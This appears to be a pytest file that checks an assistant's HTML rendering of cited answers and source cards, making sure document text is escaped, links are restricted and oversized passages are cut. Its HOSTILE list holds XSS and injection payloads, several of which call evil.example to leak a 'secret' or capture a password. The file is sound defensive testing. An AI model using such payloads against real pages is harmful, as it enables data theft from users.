"""Checks that answers are drawn faithfully, and that nothing said by a document becomes anything but text."""

from __future__ import annotations

import re
from collections import Counter
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from assistant.records import Disagreement, DisagreementValue, Language, Reason, Span
from assistant.web.ask.actions import render_actions
from assistant.web.document_view.address import LONGEST_ID, address_of, place_of_citation
from assistant.web.evidence import render_evidence
from assistant.web.export.record import exported
from assistant.web.markup import LONGEST_FACT, LONGEST_SHOWN, fact, laid_out, safe
from assistant.web.rendering import (
    Holdings,
    render_abstention,
    render_answer,
    render_footer,
    render_header,
    render_message,
    render_waiting,
    render_welcome,
)
from tests.web.made import ANSWER, ENGLISH, FRENCH, HOLDINGS, abstention_of, answer_of, cite, document, passage_of

HOSTILE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>', "![x](https://evil.example/?q=secret)", "<video src=https://evil.example>",
    "<form action=https://evil.example><input type=password></form>", '<div style="position:fixed;inset:0">',
    "${fetch('//evil.example')}", "{{7*7}}", "`${alert(1)}`", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)",
    "</details></article></section>", "$$\\href{javascript:alert(1)}{x}$$", "Sources : [1] vrai [2]", "<!--", "]]>",
    "&lt;script&gt;", "\u202eetirw", "« faux » [1]", "</style><style>*{display:none}", "<base href=//evil.example>",
]  # fmt: skip
OUR_TAGS = set(
    "section h1 h2 h3 p span blockquote a article div mark cite header nav footer details summary ul li".split()
)
OUR_LINKS = r"#(source|mark)-\d+|/(fr|en)/|/(fr|en)/discover|/(fr|en)/document\?[\w%&=.+~-]*#quote"


class Reader(HTMLParser):
    """The tags, attributes and text of a piece of HTML, as a browser would take them."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: Counter[str] = Counter()
        self.text = ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self.open[tag] += 1

    def handle_endtag(self, tag: str) -> None:
        self.open[tag] -= 1

    def handle_data(self, data: str) -> None:
        self.text += data

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.tags if name == tag]


def spaced(text: str) -> str:
    return " ".join(text.split())


def assert_harmless(markup: str) -> Reader:
    reader = Reader(markup)
    assert {tag for tag, _ in reader.tags} <= OUR_TAGS
    assert not any(reader.open.values())  # everything is closed, nothing is closed twice
    names = {name for _, attributes in reader.tags for name in attributes}
    assert names <= {"class", "id", "href", "lang", "hreflang", "role", "tabindex", "data-number", "target", "rel"} | {
        name for name in names if name.startswith("aria-")
    }
    assert all(re.fullmatch(OUR_LINKS, link["href"] or "") for link in reader.all("a"))
    assert all(link.get("rel") == "noopener" for link in reader.all("a") if "target" in link)
    assert not re.search(r"\$\{|\{\{|`", markup)
    return reader


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_stay_words_wherever_they_stand(words: str) -> None:
    text = f"avant {words} après"
    source = document(text, title=words, organisation=words, date=words, url=words, path=words)
    passage = passage_of(source, heading=(words, words))
    citation = cite(1, source, text, passage, also_in=words)
    conflict = Disagreement(words, (DisagreementValue(words, 1), DisagreementValue(words, 9)))
    answer = answer_of(citation, disagreements=(conflict,))
    for markup in (
        render_answer(answer),
        render_evidence(answer),
        render_abstention(abstention_of(Reason.UNKNOWN_SUBJECT, words), HOLDINGS),
        render_evidence(abstention_of(Reason.NOT_ANSWERED, words, citation)),
        render_message(words, "fr"),
        render_footer(Holdings(1, 1, ("fr",), (source,)), "fr"),
    ):
        reader = assert_harmless(markup)
        assert not markup or spaced(words.replace("\u202e", "")) in spaced(reader.text)


def test_what_the_page_says_of_itself_is_harmless_too() -> None:
    for language in ("fr", "en"):
        for markup in (render_header(language), render_welcome(language), render_waiting(HOLDINGS, language)):
            assert_harmless(markup)


@pytest.mark.parametrize("text", [*HOSTILE, "a & b", "L'eau – « là »", "x\n\n\ny", "e\u0301 \u200f \U0001f600"])
def test_safe_text_reads_as_it_was_but_for_what_turns_it_round(text: str) -> None:
    expected = text.replace("\u202e", "")
    assert Reader(safe(text)).text == expected
    assert Reader(laid_out(text)).text == expected


def test_unseen_characters_neither_turn_nor_hide_words() -> None:
    assert safe("a\u202eb\u2066c\u2069\U000e0041d") == "abcd"


def test_a_fact_is_never_longer_than_a_line_may_be() -> None:
    assert fact("x" * LONGEST_FACT) == "x" * LONGEST_FACT
    assert fact("x" * 1_000_000) == "x" * LONGEST_FACT + "…"
    long = "<" * 1_000_000
    source = document("texte", title=long, organisation=long, date=long, url=long, path=long)
    answer = answer_of(cite(1, source, "texte", passage_of(source, heading=(long,)), also_in=long))
    evidence = render_evidence(replace(answer, citations=(replace(answer.citations[0], document=source),)))
    assert len(evidence) < 20_000 + 3 * LONGEST_ID


def test_the_page_says_what_the_answer_says() -> None:
    answer = answer_of(cite(1, FRENCH, "L'équipe de Gao compte 14 personnes."), cite(2, ENGLISH, "15 staff & opened"))
    shown = Reader(render_answer(answer)).text
    assert "".join(answer.text.split()) in "".join(shown.split())  # blocks are set apart without white space


def test_an_answer_worded_otherwise_is_shown_whole_with_its_sources() -> None:
    answer = replace(ANSWER, text="Quatorze personnes, dit [1] le document.")
    reader = assert_harmless(render_answer(answer))
    assert "Quatorze personnes, dit [1] le document." in spaced(reader.text)
    assert [link["href"] for link in reader.all("a")] == ["#source-1"]


def test_only_our_marks_are_links() -> None:
    quote = "Elle couvre aussi Kidal [3]."
    reader = Reader(render_answer(answer_of(cite(1, FRENCH, quote))))
    assert [link["href"] for link in reader.all("a")] == ["#source-1"]
    assert quote in reader.text


def test_every_mark_leads_to_a_card_and_back() -> None:
    answer = answer_of(cite(1, FRENCH, "14 personnes"), cite(2, ENGLISH, "15 staff"))
    marks, cards = Reader(render_answer(answer)), Reader(render_evidence(answer))
    assert [link["href"] for link in marks.all("a")] == ["#source-1", "#source-2"]
    assert {f"source-{n}" for n in (1, 2)} <= {attributes.get("id") for _, attributes in cards.tags}
    assert [link["href"] for link in cards.all("a") if link["class"] == "back"] == ["#mark-1", "#mark-2"]
    assert {"mark-1", "mark-2"} <= {attributes.get("id") for _, attributes in marks.tags}


def test_the_quote_is_highlighted_by_its_offsets_not_by_its_words() -> None:
    source = document("Dix. Dix. Dix.")
    second = replace(cite(1, source, "Dix."), span=replace(cite(1, source, "Dix.").span, start=5, end=9))
    assert 'Dix. <mark data-number="1">Dix.</mark> Dix.' in render_evidence(answer_of(second))


def test_what_was_asked_for_is_set_in_bold_in_answer_and_source() -> None:
    start = FRENCH.text.index("14")
    answer = answer_of(cite(1, FRENCH, "L'équipe de Gao compte 14 personnes.", key=Span(start, start + 2)))
    for html in (render_answer(answer), render_evidence(answer)):
        assert "Gao compte <strong>14</strong> personnes." in html
    outside = answer_of(cite(1, FRENCH, "Elle couvre aussi Kidal [3].", key=Span(start, start + 2)))
    assert "<strong>" not in render_answer(outside) + render_evidence(outside)


def test_offsets_count_from_the_passage() -> None:
    start = FRENCH.text.index("L'équipe")
    passage = passage_of(FRENCH, start)
    shown = render_evidence(answer_of(cite(1, FRENCH, "14 personnes", passage)))
    assert '<mark data-number="1">14 personnes</mark>' in shown


def test_quotes_of_one_passage_share_a_card() -> None:
    answer = answer_of(cite(1, FRENCH, "Elle couvre"), cite(2, FRENCH, "14 personnes"), cite(3, FRENCH, "personnes."))
    shown = render_evidence(answer)
    assert len(Reader(shown).all("article")) == 1
    assert re.findall(r"<mark[^>]*>(.*?)</mark>", shown) == ["14 personnes", ".", "Elle couvre"]
    assert FRENCH.text in Reader(shown).text


def test_languages_are_named_for_people_and_for_screen_readers() -> None:
    answer = answer_of(cite(1, ENGLISH, "15 staff"), language="fr")
    shown = render_evidence(answer)
    assert "en anglais" in shown
    assert Reader(shown).all("cite") == [{"lang": "en"}]
    assert [attributes["lang"] for _, attributes in Reader(shown).tags if attributes.get("class") == "passage"] == [
        "en"
    ]
    assert '<span lang="en">' in render_answer(answer)
    assert "in French" in render_evidence(answer_of(cite(1, FRENCH, "Gao"), language="en"))


def test_a_card_says_where_the_passage_comes_from() -> None:
    source = document(FRENCH.text, url="https://example.org/gao")
    passage = passage_of(source, heading=("Mali", "Gao"), page=7)
    reader = Reader(render_evidence(answer_of(cite(1, source, "14", passage, also_in="gao-en"))))
    for words in (
        "UNICEF · 2024 · en français · page 7",
        "SHA-256 000000000000",
        "Mali › Gao",
        "gao-fr.txt · https://example.org/gao",
        "gao-en",
    ):
        assert words in reader.text
    assert not any((link["href"] or "").startswith("http") for link in reader.all("a"))


@pytest.mark.parametrize("language", ["fr", "en"])
def test_a_card_leads_into_the_document_and_to_its_other_edition(language: Language) -> None:
    citation = cite(1, FRENCH, "14 personnes", twin="gao-en#0-10")
    links = Reader(render_evidence(answer_of(citation, language=language))).all("a")
    doors = [link["href"] or "" for link in links if link["class"] == "door"]
    address = address_of(place_of_citation(citation), language)
    assert [address, address_of(place_of_citation(citation, twin=True), language)] == doors
    words = {"fr": ("Ouvrir dans le document", "Aussi en anglais"), "en": ("Open in the document", "Also in English")}
    text = Reader(render_evidence(answer_of(citation, language=language))).text
    assert all(said in text for said in words[language])


def test_without_another_edition_a_card_has_one_door() -> None:
    links = Reader(render_evidence(answer_of(cite(1, FRENCH, "14 personnes")))).all("a")
    assert [link["class"] for link in links] == ["door", "back"]


def test_disagreeing_sources_stand_side_by_side_with_their_dates() -> None:
    conflict = Disagreement("personnes", (DisagreementValue("14", 1), DisagreementValue("15", 2)))
    english = replace(ENGLISH, date="2022")
    answer = answer_of(cite(1, FRENCH, "14 personnes"), cite(2, english, "15 staff"), disagreements=(conflict,))
    shown = render_answer(answer)
    text = Reader(shown).text
    assert [text.index(words) for words in ("14", "2024", "15", "2022")] == sorted(
        text.index(words) for words in ("14", "2024", "15", "2022")
    )
    identities = [attributes["id"] for _, attributes in Reader(shown).tags if "id" in attributes]
    assert len(identities) == len(set(identities))


def test_an_abstention_gives_its_reason_and_what_was_searched_and_marks_nothing() -> None:
    answer = abstention_of(Reason.NOT_ANSWERED, "Aucun passage ne le dit.", cite(1, FRENCH, "14 personnes"))
    said = Reader(render_abstention(answer, HOLDINGS)).text
    assert "Aucun passage ne le dit." in said
    assert "2 documents et 1\u202f234 passages, en français et en anglais" in said
    shown = render_evidence(answer)
    assert "Ces passages ne répondent pas à la question." in shown
    assert "<mark" not in shown
    [door] = Reader(shown).all("a")  # to the passage as a whole, since nothing of it is quoted
    assert f"start=0&end={len(FRENCH.text)}&" in (door["href"] or "")


def test_nothing_cited_draws_nothing() -> None:
    assert render_evidence(abstention_of(Reason.NOT_A_QUESTION, "?")) == ""


def test_a_monstrous_passage_is_cut_around_its_quote() -> None:
    source = document("a " * 2_000_000 + "VOILÀ" + " b" * 1_000_000)
    answer = answer_of(cite(1, source, "VOILÀ"))
    shown = render_evidence(answer)
    assert '<mark data-number="1">VOILÀ</mark>' in shown
    assert shown.count("…") == 2
    assert len(shown) < LONGEST_SHOWN + 5_000
    whole = answer_of(cite(1, source, source.text))
    assert len(render_answer(whole)) + len(render_evidence(whole)) < 1_000_000


@pytest.mark.parametrize("filling", ['"', "\n\na", "😀"])
def test_a_page_of_monstrous_passages_stays_below_a_megabyte(filling: str) -> None:
    sources = [document(filling * (2_000_000 // len(filling)), path=f"{n}.txt", title=filling * 99) for n in range(5)]
    citations = [cite(n, source, source.text, passage_of(source)) for n, source in enumerate(sources, start=1)]
    answer = answer_of(*citations)
    shown = render_answer(answer) + render_evidence(answer) + render_actions("x", exported(answer, "?"))
    assert len(shown.encode()) < 900_000  # the page itself is another tenth of a megabyte


def test_the_footer_lists_the_documents_and_counts_the_rest() -> None:
    text = Reader(render_footer(Holdings(60, 900, ("fr",), (FRENCH, ENGLISH)), "fr")).text
    assert "Où nous travaillons" in text
    assert "et 58 autres" in text
